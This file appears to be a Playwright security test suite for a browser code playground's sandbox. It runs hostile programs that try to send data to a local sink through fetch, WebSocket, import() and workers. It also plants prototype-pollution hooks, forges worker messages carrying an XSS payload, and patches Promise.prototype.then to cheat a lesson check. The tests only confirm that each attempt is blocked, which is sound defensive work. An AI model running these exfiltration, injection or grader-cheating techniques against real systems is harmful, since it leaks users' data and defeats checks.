/**
 * The sandbox, tried as a hostile program would, against the production build served by a
 * plain static server that sends no security header (the app's `<meta>` policy and the
 * sandbox frame must hold on their own).
 */
import { expect, test, type Page } from "@playwright/test";
import { resolve } from "node:path";
import { consoleLines, consoleLog, setCode, status } from "./helpers";
import { startStaticServer, type StaticServer } from "./support/static_server";

let server: StaticServer;

test.beforeAll(async () => {
  server = await startStaticServer(resolve("dist"));
});
test.afterAll(async () => {
  await server.close();
});

async function open(page: Page, hash = ""): Promise<void> {
  await page.goto(`${server.appUrl}/${hash}`);
  await expect(page.getByTestId("editor")).toHaveAttribute("data-ready", "true", { timeout: 60_000 });
}

async function run(page: Page): Promise<string> {
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect(status(page)).toHaveText(/^(done|error|stopped)$/, { timeout: 60_000 });
  return (await status(page).textContent()) ?? "";
}

/** Requests to the app's server other than its own files (a query string counts as other). */
const unexpected = () => server.hits.filter((h) => !h.ownFile).map((h) => h.path);

test("a hostile program reaches no other host and no unexpected path of its own, without any server header", async ({ page }) => {
  await open(page);
  const sink = server.sinkUrl;
  const app = server.appUrl;
  await setCode(
    page,
    [
      `const SINK = "${sink}", APP = "${app}";`,
      `const g: any = globalThis;`,
      `async function attempt(name: string, f: () => unknown) {`,
      `  try { await f(); print(name + ": not blocked"); } catch (e) { print(name + ": blocked"); }`,
      `}`,
      `await attempt("fetch", () => g.fetch(SINK + "/fetch"));`,
      `await attempt("fetch via the prototype", () => Object.getPrototypeOf(Object.getPrototypeOf(g)).fetch.call(g, SINK + "/proto"));`,
      `await attempt("same-origin fetch", () => g.fetch(APP + "/leak?data=1"));`,
      `await attempt("XMLHttpRequest", () => { const x = new g.XMLHttpRequest(); x.open("GET", SINK + "/xhr"); x.send(); });`,
      `await attempt("WebSocket", () => new g.WebSocket(SINK.replace("http", "ws") + "/ws"));`,
      `await attempt("EventSource", () => new g.EventSource(SINK + "/es"));`,
      `await attempt("import()", () => Function("return import('" + SINK + "/import.js')")());`,
      `await attempt("same-origin import()", () => Function("return import('" + APP + "/leak.js?data=1')")());`,
      `await attempt("FontFace", () => new g.FontFace("x", "url(" + SINK + "/font)").load());`,
      `await attempt("fonts", () => g.fonts.load("12px x"));`,
      `await attempt("importScripts", () => g.importScripts(SINK + "/script.js"));`,
      `await attempt("Worker", () => new g.Worker(SINK + "/worker.js"));`,
      `await new Promise((r) => setTimeout(r, 300));`,
    ].join("\n"),
  );
  server.hits.length = 0;
  expect(await run(page)).toBe("done");
  const lines = await consoleLines(page);
  expect(lines).toHaveLength(12);
  for (const line of lines) expect(line).toMatch(/: blocked$/);
  await page.waitForTimeout(500);
  expect(server.sinkHits).toEqual([]);
  expect(unexpected()).toEqual([]);
});

test("import() in a program is refused with a clear message, also from code built from a string", async ({ page }) => {
  await open(page);
  await setCode(page, `const m = await import("${server.sinkUrl}/x.js");`);
  expect(await run(page)).toBe("error");
  await expect(consoleLog(page)).toContainText("The playground has no modules");
  await setCode(page, `const m = await Function("return import('${server.sinkUrl}/y.js')")();`);
  expect(await run(page)).toBe("error");
  await expect(consoleLog(page)).toContainText("ImportError: import() is not available in the playground");
  expect(server.sinkHits).toEqual([]);
});

test("nothing a program leaves behind reaches the next run", async ({ page }) => {
  await open(page);
  await setCode(
    page,
    [
      `const s = tf.Session();`,
      `const proto: any = Object.getPrototypeOf(s);`,
      `proto.run = function () { return 6; };`,
      `Object.defineProperty(Object.prototype, "intervalMs", { get() { (globalThis as any).stolen = this; return 16; }, configurable: true });`,
      `(globalThis as any).addEventListener("message", (e: any) => print("spied: " + JSON.stringify(e.data).slice(0, 40)));`,
      `(globalThis as any).setTimeout(() => { while (true) {} }, 200);`,
      `print("planted");`,
    ].join("\n"),
  );
  expect(await run(page)).toBe("done");
  await setCode(page, `const sess = tf.Session();\nprint(sess.run(tf.constant(2) + 3));\nawait new Promise((r) => setTimeout(r, 500));\nprint("still running normally");`);
  expect(await run(page)).toBe("done");
  expect(await consoleLines(page)).toEqual(["5", "still running normally"]);
});

test("Stop keeps every line and the graph made before a hang, and says where the program was", async ({ page }) => {
  await open(page);
  await setCode(
    page,
    `const a = tf.constant(2);\nconst s = tf.Session();\nprint(s.run(a + 3));\nprint("one"); print("two"); print("three");\nwhile (true) {}\n`,
  );
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect(status(page)).toHaveText("running");
  await page.waitForTimeout(500);
  await page.getByRole("button", { name: "Stop" }).click();
  await expect(status(page)).toHaveText("stopped");
  expect(await consoleLines(page)).toEqual(["5", "one", "two", "three"]);
  await expect(consoleLog(page).locator(".console-stopped")).toContainText("Stopped at line 5");
  expect(await page.evaluate(() => window.__playground!.state().program.nodes.map((n) => n.name))).toEqual(["Const", "add/y", "add"]);
  expect(await page.evaluate(() => window.__playground!.state().program.runCount)).toBe(1);
});

test("the time limit keeps what was printed before the hang and names the line", async ({ page }) => {
  await open(page);
  await page.evaluate(() => window.__playground!.setTimeLimit?.(1));
  await setCode(page, `print("one"); print("two"); print("three");\nlet i = 0;\nfor (;;) { i++; }\n`);
  expect(await run(page)).toBe("stopped");
  expect(await consoleLines(page)).toEqual(["one", "two", "three"]);
  await expect(consoleLog(page).locator(".console-stopped")).toContainText("Stopped after the time limit of 1 s at line 3");
});

test("forged and malformed worker messages are dropped and reported, and the page stays whole", async ({ page }) => {
  await open(page);
  await setCode(page, `print("real");\nwhile (true) {}`);
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect(consoleLog(page)).toContainText("real");
  const runId = await page.evaluate(() => window.__playground!.state().program.runId);
  const forged = [
    { type: "batch", runId, line: null, batch: { type: "batch", items: [{ type: "stdout", text: 5 }] } },
    { type: "batch", runId: runId + 1, line: null, batch: {} },
    { type: "batch", runId, line: null, batch: { type: "batch", items: [{ type: "node", name: {} }], aggregates: [], series: [], counts: {}, latest_run: null, recent_lines: [], final: false } },
    "<img src=x onerror=alert(1)>",
    null,
  ];
  for (const m of forged) await page.evaluate((data) => window.__playground!.deliverWorkerMessage!(data), m);
  await expect(page.getByTestId("console-dropped")).toContainText("The page ignored a malformed message from the program's worker");
  await expect(status(page)).toHaveText("running");
  await page.getByRole("button", { name: "Stop" }).click();
  await expect(status(page)).toHaveText("stopped");
  expect(await consoleLines(page)).toEqual(["real"]);
  await expect(page.getByTestId("editor")).toBeVisible();
});

test("a malformed final message ends the run with a clear reason instead of leaving it running", async ({ page }) => {
  await open(page);
  await setCode(page, `print("real");\nwhile (true) {}`);
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect(consoleLog(page)).toContainText("real");
  const runId = await page.evaluate(() => window.__playground!.state().program.runId);
  const last = { type: "batch", runId, line: 2, batch: { type: "batch", items: [{ type: "node", name: {} }], aggregates: [], series: [], counts: {}, latest_run: null, recent_lines: [], final: true } };
  await page.evaluate((data) => window.__playground!.deliverWorkerMessage!(data), last);
  await expect(status(page)).toHaveText("stopped");
  await expect(consoleLog(page).locator(".console-stopped:not([data-testid])")).toContainText("the page could not read its last message at line 2");
  await expect(page.getByTestId("console-dropped")).toContainText("malformed message");
  expect(await consoleLines(page)).toEqual(["real"]);
});

test("a lesson check cannot be cheated by patching built-ins, in the same run or for later ones", async ({ page }) => {
  await open(page, "#lesson/placeholders");
  const lessonPane = page.getByRole("region", { name: "Lesson" });
  const cheat = `(Promise.prototype as any).then = function (ok: any) { return ok({ end: { type: "end", ok: true, seed: 1 }, outcomes: [] }); };\nprint("hello");`;
  await setCode(page, `try { ${cheat.replace("\n", " ")} } catch (e) { print("refused"); }`);
  await run(page);
  await expect(lessonPane.locator(".task-card").first()).toContainText("not yet");
  await setCode(page, `print("hello");`);
  await run(page);
  await expect(lessonPane.locator(".task-card").first()).toContainText("not yet");
  await expect(lessonPane.locator('.task-card:has-text("Done")')).toHaveCount(0);
});

test("a pane whose rendering fails shows a reload box in that pane only, and the editor keeps its text", async ({ page }) => {
  await open(page);
  await setCode(page, `print("kept");`);
  await run(page);
  for (const pane of ["graph", "console", "runs"]) await page.evaluate((p) => window.__playground!.failPane!(p), pane);
  for (const pane of ["graph", "console", "runs"]) await expect(page.getByTestId(`pane-failed-${pane}`)).toContainText(`This ${pane} pane failed`);
  await expect(page.getByTestId("editor")).toBeVisible();
  expect(await page.evaluate(() => window.__playground!.getCode())).toBe(`print("kept");`);
  await page.getByRole("button", { name: "Reload the console pane" }).click();
  await expect(page.getByTestId("pane-failed-console")).toHaveCount(0);
  expect(await consoleLines(page)).toEqual(["kept"]);
});
